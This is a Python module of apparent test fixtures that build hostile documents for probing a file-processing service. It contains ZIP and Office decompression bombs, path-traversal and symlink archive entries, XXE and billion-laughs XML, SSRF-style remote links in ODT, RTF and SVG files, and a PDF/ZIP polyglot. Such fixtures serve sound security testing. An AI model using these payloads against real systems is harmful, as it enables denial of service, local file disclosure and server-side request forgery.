"""ZIPs and office files made to break who unpacks them, or to have files and addresses read for
them.
"""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib

from document_bombs import packed

MEGABYTE = 1 << 20


def zip_of(entries: dict[str, bytes]) -> bytes:
    """A ZIP of these files."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _with_bomb(entries: dict[str, bytes], name: str, megabytes: int) -> bytes:
    """The ZIP with one entry more, of blanks: added by hand, for ``zipfile`` would pack every one
    of them.
    """
    blanks = b" " * MEGABYTE
    data = packed(megabytes, blanks)[2:-4]
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(blanks, crc)
    archive = zip_of(entries)
    end = archive.rindex(b"PK\5\6")
    count, size, start = struct.unpack("<HII", archive[end + 10 : end + 20])
    fields = struct.pack("<HHHHIII", 0, 8, 0, 33, crc, len(data), megabytes * MEGABYTE)
    local = (
        b"PK\3\4"
        + struct.pack("<H", 20)
        + fields
        + struct.pack("<HH", len(name), 0)
        + name.encode()
    )
    central = b"PK\1\2" + struct.pack("<HH", 20, 20) + fields
    central += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, start) + name.encode()
    directory = archive[start : start + size] + central
    place = start + len(local) + len(data)
    ending = struct.pack("<HHHHIIH", 0, 0, count + 1, count + 1, len(directory), place, 0)
    return archive[:start] + local + data + directory + b"PK\5\6" + ending


def zip_of_gigabytes() -> bytes:
    """A zip whose one large entry is more than a gigabyte of blanks."""
    return _with_bomb({"a.txt": b"a"}, "a.pdf", 1300)


def zip_that_climbs() -> bytes:
    """A zip with entries that name files outside of it."""
    return zip_of({"../../outside.pdf": b"%PDF-1.7", "/etc/cron.d/x.pdf": b"%PDF-1.7"})


def zip_of_a_link(path: str) -> bytes:
    """A zip whose one entry is a symbolic link to a file of the machine."""
    entry = zipfile.ZipInfo("letter.txt")
    entry.create_system = 3
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(entry, path)
    return buffer.getvalue()


_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="word/document.xml"/></Relationships>'
)


def _docx_parts(body: bytes, doctype: bytes = b"") -> dict[str, bytes]:
    document = (
        b'<?xml version="1.0"?>'
        + doctype
        + b'<w:document xmlns:w="http://schemas.openxmlformats.org/'
        b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
        + body
        + b"</w:t></w:r></w:p></w:body></w:document>"
    )
    return {"[Content_Types].xml": _TYPES, "_rels/.rels": _RELATIONS, "word/document.xml": document}


def docx(body: bytes, doctype: bytes = b"") -> bytes:
    """A Word file with this in its first paragraph."""
    return zip_of(_docx_parts(body, doctype))


def docx_of_a_gigabyte() -> bytes:
    """A Word file whose style sheet is more than a gigabyte of blanks."""
    return _with_bomb(_docx_parts(b"words"), "word/styles.xml", 1100)


def xlsx_of_a_gigabyte() -> bytes:
    """An Excel file whose worksheet is more than a gigabyte of blanks."""
    parts = {"[Content_Types].xml": _TYPES, "xl/workbook.xml": b""}
    return _with_bomb(parts, "xl/worksheets/sheet1.xml", 1100)


def docx_reading_a_file(path: str) -> bytes:
    """A Word file whose XML asks for a file of the machine."""
    doctype = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file://' + path.encode() + b'">]>'
    return docx(b"before &x; after", doctype)


def docx_of_laughs() -> bytes:
    """A Word file whose XML would grow to gigabytes."""
    entities = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 11)
    )
    return docx(b"&a10;", b"<!DOCTYPE d [" + entities + b"]>")


def flat_text(url: str) -> bytes:
    """A flat OpenDocument text with a picture from elsewhere."""
    return (
        b'<?xml version="1.0"?><office:document '
        b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        b'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3" '
        b'office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:p>words'
        b'<draw:frame><draw:image xlink:href="'
        + url.encode()
        + b'"/></draw:frame></text:p></office:text>'
        b"</office:body></office:document>"
    )


def rtf_with_picture(url: str) -> bytes:
    """A Rich Text file with a picture from elsewhere."""
    return rb"{\rtf1 words {\field{\*\fldinst INCLUDEPICTURE \"" + url.encode() + rb"\" \\d}}\par}"


_ODT = (
    '<?xml version="1.0"?><office:document-content '
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"><office:body><office:text>'
    "<text:p>words</text:p>"
    '<text:section text:name="S"><text:section-source xlink:href="{0}"/><text:p>old</text:p></text:section>'
    '<text:p><draw:frame><draw:image xlink:href="{0}"/></draw:frame></text:p>'
    "</office:text></office:body></office:document-content>"
)
_MANIFEST = (
    b'<?xml version="1.0"?><manifest:manifest '
    b'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    b'manifest:version="1.3"><manifest:file-entry manifest:full-path="/" '
    b'manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry '
    b'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
)


def odt_linking_to(address: str) -> bytes:
    """An OpenDocument text with a section and a picture from elsewhere."""
    entries = {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": _ODT.format(address).encode(),
        "META-INF/manifest.xml": _MANIFEST,
    }
    return zip_of(entries)


def svg_reading(address: str) -> bytes:
    """A drawing whose XML, picture, script and style ask for what lies there."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "{address}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="99">'
        f"<style>@import url({address});</style><script>fetch('{address}')</script>"
        f'<text x="9" y="50">before &x; after</text><image xlink:href="{address}" width="9" height="9"/>'
        '<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        f'src="{address}"/></foreignObject></svg>'
    ).encode()


def pdf_and_zip(pdf: bytes, entries: dict[str, bytes]) -> bytes:
    """One file that is a PDF to who reads its beginning, and a ZIP to who reads its end."""
    return pdf + b"\n" + zip_of(entries)
